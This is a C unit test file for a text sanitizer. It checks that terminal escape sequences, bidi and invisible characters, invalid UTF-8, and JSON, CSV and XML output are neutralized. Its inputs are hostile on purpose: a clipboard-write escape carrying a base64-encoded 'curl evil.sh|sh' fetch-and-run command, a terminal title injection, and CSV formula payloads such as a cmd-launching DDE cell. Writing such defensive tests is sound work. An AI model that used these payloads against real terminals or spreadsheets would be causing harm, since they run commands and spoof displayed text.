/* The sanitizer every writer uses (base/safe_text.h): escapes for every
 * control, bidi and format character, U+FFFD for invalid UTF-8, the NUL
 * mark shown as \0, tabs expanded, JSON made valid and inert, CSV cells
 * quoted and guarded against formulas, XML escaped. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdlib.h>
#include <string.h>

#include <cjson/cJSON.h>
#include <cmocka.h>

#include "base/json.h"
#include "base/safe_text.h"

static void expect(const char *in, size_t len, unsigned flags, const char *want)
{
    char *got = pl_safe_text_n(in, len, flags);
    assert_non_null(got);
    assert_string_equal(got, want);
    assert_int_equal(pl_text_is_safe(in, len, flags), strcmp(in, want) == 0 && strlen(in) == len);
    free(got);
}
#define EXPECT(in, flags, want) expect(in, sizeof in - 1, flags, want)

static void test_controls_become_escapes(void **state)
{
    (void)state;
    /* the attacks: a title (OSC 0), the clipboard (OSC 52), CSI, CR and BS overwrites */
    EXPECT("a\x1b]0;pwned\x07z", 0, "a\\e]0;pwned\\az");
    EXPECT("\x1b]52;c;Y3VybCBldmlsLnNofHNo\x1b\\", 0, "\\e]52;c;Y3VybCBldmlsLnNofHNo\\e\\");
    EXPECT("\x1b[2J\x1b[31mred", 0, "\\e[2J\\e[31mred");
    EXPECT("wrong\rright", 0, "wrong\\rright");
    EXPECT("yes\b\b\bno", 0, "yes\\b\\b\\bno");
    EXPECT("\x01\x7f\v\f", 0, "\\x01\\x7f\\v\\f");
    EXPECT("one\ntwo", 0, "one\\ntwo");
    EXPECT("one\ntwo\r\nthree\rx", PL_SAFE_LINES, "one\ntwo\nthree\\rx");
    EXPECT("plain text, (at a b)", 0, "plain text, (at a b)");
}

static void test_c1_bidi_and_format(void **state)
{
    (void)state;
    EXPECT("\xc2\x9b" "2J", 0, "\\u009b2J");            /* C1 CSI */
    EXPECT("abc\xe2\x80\xae" "fed", 0, "abc\\u202efed"); /* RLO */
    EXPECT("\xe2\x81\xa6x\xe2\x81\xa9", 0, "\\u2066x\\u2069");
    EXPECT("zero\xe2\x80\x8bwidth\xef\xbb\xbf", 0, "zero\\u200bwidth\\ufeff");
    EXPECT("tag\xf3\xa0\x80\x81", 0, "tag\\U000e0001");
    EXPECT("non\xef\xbf\xbe\xef\xbf\xbf\xef\xb7\x90\xf4\x8f\xbf\xbf", 0, "non\\ufffe\\uffff\\ufdd0\\U0010ffff");
    EXPECT("caf\xc3\xa9 \xcf\x80 \xe2\x80\x94 \xf0\x9f\x99\x82", 0, "caf\xc3\xa9 \xcf\x80 \xe2\x80\x94 \xf0\x9f\x99\x82");
}

static void test_invalid_utf8_and_nul(void **state)
{
    (void)state;
    EXPECT("a\xff" "b", 0, "a\xef\xbf\xbd" "b");
    EXPECT("\xe2\x82", 0, "\xef\xbf\xbd\xef\xbf\xbd");       /* cut short */
    EXPECT("\xed\xa0\x80", 0, "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd"); /* a surrogate */
    EXPECT("\xe0\x80\xaf", 0, "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd"); /* overlong */
    EXPECT("\xf4\x90\x80\x80", 0, "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd");
    EXPECT("gpt" PL_NUL_MARK "evil", 0, "gpt\\0evil");
    /* a raw NUL inside a counted text */
    expect("a\0b", 3, 0, "a\\0b");
}

static void test_tabs_expand(void **state)
{
    (void)state;
    EXPECT("a\tb", 0, "a       b");
    EXPECT("\t", 0, "        ");
    EXPECT("12345678\tx", 0, "12345678        x");
    EXPECT("ab\ncd\te", PL_SAFE_LINES, "ab\ncd      e");
    EXPECT("\xcf\x80\tx", 0, "\xcf\x80       x"); /* one column per character */
    EXPECT("\x1b\tx", 0, "\\e      x");
    EXPECT("{\n\t\"a\":\t1\x1b\n}", PL_SAFE_LINES | PL_SAFE_TABS, "{\n\t\"a\":\t1\\e\n}");
}

static void test_json_valid_and_inert(void **state)
{
    (void)state;
    cJSON *o = cJSON_CreateObject();
    cJSON_AddStringToObject(o, "response", "a\x1b]0;t\x07 \xc2\x9b \xe2\x80\xae \xff " PL_NUL_MARK " \x7f \xf3\xa0\x80\x81 ok \xcf\x80");
    char *printed = cJSON_PrintUnformatted(o);
    char *safe = pl_safe_json(printed);
    assert_non_null(safe);
    for (const unsigned char *p = (const unsigned char *)safe; *p; p++)
        assert_true(*p >= 0x20 && *p != 0x7f && *p != 0xc0 && *p != 0xc2 && *p != 0xff);
    cJSON *back = cJSON_Parse(safe);
    assert_non_null(back);
    const char *r = cJSON_GetObjectItem(back, "response")->valuestring;
    /* the same string (the NUL ends it: \u0000 is what a JSON reader gets) */
    assert_memory_equal(r, "a\x1b]0;t\x07 \xc2\x9b \xe2\x80\xae \xef\xbf\xbd ", strlen(r));
    assert_non_null(strstr(safe, "\\u001b]0;t\\u0007 \\u009b \\u202e \xef\xbf\xbd \\u0000 \\u007f \\udb40\\udc01 ok \xcf\x80"));
    cJSON_Delete(back);
    cJSON_Delete(o);
    free(printed);
    free(safe);
}

static void check_cell(const char *in, bool raw, const char *want)
{
    char *got = pl_csv_cell(in, raw);
    assert_non_null(got);
    assert_string_equal(got, want);
    free(got);
}

static void test_csv_cells(void **state)
{
    (void)state;
    check_cell("=HYPERLINK(\"http://x\")", false, "\"'=HYPERLINK(\"\"http://x\"\")\"");
    check_cell("=1+1", true, "=1+1");
    check_cell("+1-2", false, "'+1-2");
    check_cell("@SUM(A1)", false, "'@SUM(A1)");
    check_cell("-cmd|' /C calc'!A0", false, "'-cmd|' /C calc'!A0");
    check_cell("\t=1", false, "'        =1");
    check_cell("\r=1", false, "'\\r=1");
    check_cell("-8682376828094741291", false, "-8682376828094741291");
    check_cell("-0.5e-3", false, "-0.5e-3");
    check_cell("+3", false, "+3");
    check_cell("-", false, "'-");
    check_cell("a,b", false, "\"a,b\"");
    check_cell("line1\nline2", false, "\"line1\nline2\"");
    check_cell("a\x1b[31m", false, "a\\e[31m");
    check_cell("", false, "");
    check_cell(NULL, false, "");
}

static void test_xml(void **state)
{
    (void)state;
    char *x = pl_xml_text("<a href=\"x\">&'\x1b\x0b\xff\xef\xbf\xbe</a>"); /* U+FFFE: not XML */
    assert_string_equal(x, "&lt;a href=&quot;x&quot;&gt;&amp;&apos;\\e\\v\xef\xbf\xbd\\ufffe&lt;/a&gt;");
    free(x);
}

/* JSON's \u0000 is kept as the NUL mark (the text after it is read) and a
 * syntax error after one is still placed in the original text. */
static void test_json_nul_kept(void **state)
{
    (void)state;
    const char *text = "{\"model\":\"m\\u0000a\",\"response\":\"2\\u0000 actually 1\"}";
    pl_error err = PL_ERROR_INIT;
    cJSON *o = pl_json_parse_exact(text, strlen(text), "run.jsonl", &err);
    assert_non_null(o);
    assert_string_equal(pl_json_str(o, "model"), "m" PL_NUL_MARK "a");
    assert_string_equal(pl_json_str(o, "response"), "2" PL_NUL_MARK " actually 1");
    cJSON_Delete(o);
    const char *bad = "{\"a\":\"\\u0000\\u0000\", x}\n";
    assert_null(pl_json_parse_exact(bad, strlen(bad), "run.jsonl", &err));
    assert_int_equal(err.column, (int)(strchr(bad, '}') - bad) + 1); /* cJSON stops at the '}' */
    pl_error_clear(&err);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_controls_become_escapes), cmocka_unit_test(test_c1_bidi_and_format),
        cmocka_unit_test(test_invalid_utf8_and_nul),    cmocka_unit_test(test_tabs_expand),
        cmocka_unit_test(test_json_valid_and_inert),    cmocka_unit_test(test_csv_cells),
        cmocka_unit_test(test_xml),                     cmocka_unit_test(test_json_nul_kept),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
